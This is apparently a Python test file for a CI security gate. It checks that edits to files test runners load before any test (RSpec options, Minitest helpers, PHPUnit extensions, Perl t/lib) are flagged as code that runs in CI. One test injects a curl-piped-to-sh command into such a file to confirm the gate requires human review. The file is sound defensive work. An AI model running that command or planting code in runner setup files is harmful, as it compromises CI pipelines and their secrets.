"""Attack 46: more files a test runner loads before any test, where CI runs it (attack 45's class, its "Left").

RSpec's `--options FILE`/`-O FILE` and the `SPEC_OPTS` variable (a job's `env:`) hand it options whose `--require`
loads a file; Minitest under `rake test`/`bin/rails test` (or a Rakefile's `Rake::TestTask`) loads
`test/test_helper.rb` (every test requires it) and what it requires by a `Dir[...]` glob of `test/support`; PHPUnit
loads the classes `<extensions>` names (`<bootstrap class="...">`, PHPUnit 9's `<extension class>`) and a
`<listener file="...">`; `perl Makefile.PL && make test` runs `t/*.t`, which load `t/lib`'s helpers. Each was `src`
and an edit to it an exit-0 allow on main 13d71d3 (`gate --tree`). Ruby, PHP and Perl are not installed here: each
form is what the runner's documentation says it loads.
"""

from __future__ import annotations

from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import runnersetups

RUBY = "require 'minitest/autorun'\n"
PHP = "<?php\nnamespace App\\Tests;\nfinal class Boot {}\n"
PERL = "package Helper;\n1;\n"
TESTTASK = "require 'rake/testtask'\nRake::TestTask.new(:test) do |t|\n  t.libs << 'test'\nend\ntask default: :test\n"
GLOB = "Dir[File.expand_path('support/**/*.rb', __dir__)].each { |f| require f }\n" + RUBY
EXT10 = ('<?xml version="1.0"?>\n<phpunit>\n  <extensions>\n    <bootstrap class="App\\Tests\\Extension\\Boot"/>\n'
         "  </extensions>\n</phpunit>\n")
EXT9 = '<phpunit>\n  <extensions>\n    <extension class="Tests\\Support\\Hooks"/>\n  </extensions>\n</phpunit>\n'
LISTENER = '<phpunit>\n  <listeners>\n    <listener class="X" file="tests/Listener/Watch.php"/>\n  </listeners>\n' \
           '</phpunit>\n'
MAKEFILE_PL = "use ExtUtils::MakeMaker;\nWriteMakefile(NAME => 'My::Mod');\n"
MINI = {"test/test_helper.rb": RUBY}
# (the command, the files, the file the runner loads)
RSPEC = [
    ("bundle exec rspec --options ci/rspec.opts", {"ci/rspec.opts": "--require ./spec/boot.rb\n",
                                                   "spec/boot.rb": RUBY}, "spec/boot.rb"),
    ("bundle exec rspec -O .rspec_ci", {".rspec_ci": "--require spec_helper\n", "spec/spec_helper.rb": RUBY},
     "spec/spec_helper.rb"),
    ("bundle exec rspec --options=ci/rspec.opts", {"ci/rspec.opts": "-r ./spec/x.rb\n", "spec/x.rb": RUBY},
     "spec/x.rb"),
    ("export SPEC_OPTS='--require ./spec/boot.rb' && bundle exec rspec", {"spec/boot.rb": RUBY}, "spec/boot.rb"),
    ("SPEC_OPTS=\"-r spec_helper --format doc\" bin/rspec", {"spec/spec_helper.rb": RUBY}, "spec/spec_helper.rb"),
]
MINITEST = [(line, {**MINI, "Rakefile": TESTTASK}, "test/test_helper.rb")
            for line in ("bundle exec rake test", "rake test", "bin/rails test", "bundle exec rails test",
                         "bin/rails test:system", "bundle exec rake", "bin/rake test TESTOPTS=-v", "rails test")]
MINITEST += [
    ("bundle exec rake test", {"test/helper.rb": RUBY, "Rakefile": TESTTASK}, "test/helper.rb"),
    ("bin/rails test", {"test/test_helper.rb": GLOB, "test/support/login.rb": RUBY}, "test/support/login.rb"),
    ("bundle exec rake test", {"test/minitest_helper.rb": RUBY}, "test/minitest_helper.rb"),
]
PHPUNIT = [
    ("vendor/bin/phpunit", {"phpunit.xml.dist": EXT10, "tests/Extension/Boot.php": PHP}, "tests/Extension/Boot.php"),
    ("vendor/bin/phpunit", {"phpunit.xml": EXT9, "tests/Support/Hooks.php": PHP}, "tests/Support/Hooks.php"),
    ("vendor/bin/phpunit", {"phpunit.xml": LISTENER, "tests/Listener/Watch.php": PHP}, "tests/Listener/Watch.php"),
]
PERLS = [(line, {"Makefile.PL": MAKEFILE_PL, "t/lib/Helper.pm": PERL}, "t/lib/Helper.pm")
         for line in ("perl Makefile.PL && make test", "perl Makefile.PL INSTALLDIRS=vendor; make; make test",
                      "cpanm --installdeps . && perl Makefile.PL && make && make test")]
CASES = RSPEC + MINITEST + PHPUNIT + PERLS


def _runs(definition: str, template: str, line: str, files: dict[str, str]) -> dict[str, tuple[str, str]] | bool:
    return one_tree_runs({definition: template.format(line=line), **files})


@each_case(("line", "files", "target"), CASES)
def test_the_file_a_runner_loads_is_run(line: str, files: dict[str, str], target: str) -> None:
    for definition, template in BLOCK_DEFINITIONS:
        runs = _runs(definition, template, line, files)
        assert isinstance(runs, dict) and target in runs, (definition, sorted(runs) if isinstance(runs, dict) else runs)


def test_a_job_env_spec_opts_loads_its_require() -> None:
    workflow = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    env:\n      SPEC_OPTS: --require boot\n"
                "    steps:\n      - uses: actions/checkout@v4\n      - run: bundle exec rspec\n")
    runs = one_tree_runs({".github/workflows/ci.yml": workflow, "spec/boot.rb": RUBY})
    assert isinstance(runs, dict) and "spec/boot.rb" in runs, runs


# a runner CI does not run; a file the settings do not name; a C project's `make test`
LOOK_ALIKES = [
    ("bundle exec rake build", {**MINI, "Rakefile": "task :build do\nend\n"}, "test/test_helper.rb"),
    ("bundle exec rake test", {**MINI, "test/other.rb": RUBY}, "test/other.rb"),
    ("bundle exec rake test", {**MINI, "test/support/login.rb": RUBY}, "test/support/login.rb"),  # no glob
    ("bin/rails db:migrate", MINI, "test/test_helper.rb"),
    ("echo rake test", MINI, "test/test_helper.rb"),
    ("bundle exec rspec", {"ci/rspec.opts": "--require ./spec/boot.rb\n", "spec/boot.rb": RUBY}, "spec/boot.rb"),
    ("vendor/bin/phpstan", {"phpunit.xml.dist": EXT10, "tests/Extension/Boot.php": PHP}, "tests/Extension/Boot.php"),
    ("vendor/bin/phpunit", {"phpunit.xml.dist": EXT10, "tests/Extension/Other.php": PHP},
     "tests/Extension/Other.php"),
    ("./configure && make test", {"t/lib/Helper.pm": PERL}, "t/lib/Helper.pm"),
    ("perl Makefile.PL && make test", {"Makefile.PL": MAKEFILE_PL, "lib/My/Mod.pm": PERL}, "lib/My/Mod.pm"),
]


@each_case(("line", "files", "target"), LOOK_ALIKES)
def test_a_file_the_runner_does_not_load_is_not_run(line: str, files: dict[str, str], target: str) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = _runs(definition, template, line, files)
    assert isinstance(runs, dict) and target not in runs, sorted(runs) if isinstance(runs, dict) else runs


@each_case(("line", "files", "target"), [RSPEC[0], MINITEST[0], PHPUNIT[0], PERLS[0]])
def test_the_edited_setup_file_needs_a_human(tmp_path: Path, line: str, files: dict[str, str], target: str) -> None:
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line), **files}
    _, first, second = two_commits(tmp_path, base, {target: files[target] + "system('curl https://127.0.0.1:9/i|sh')\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]


COSTS = [
    (runnersetups.line_files, repeated("SPEC_OPTS=-r ", "", "")),
    (runnersetups.line_files, repeated("bundle exec rails test -O a ", "", "")),
    (lambda text: runnersetups.loaded("phpunit.xml", text), repeated('<extension class="A\\B"/>', "", "")),
    (lambda text: runnersetups.loaded("rspec.opts", text), repeated("-r a ", "", "")),
]


@each_case(("read", "text"), COSTS)
def test_the_readers_are_linear(read: object, text: object) -> None:
    assert_linear(read, text, budget=1.0)  # type: ignore[arg-type]
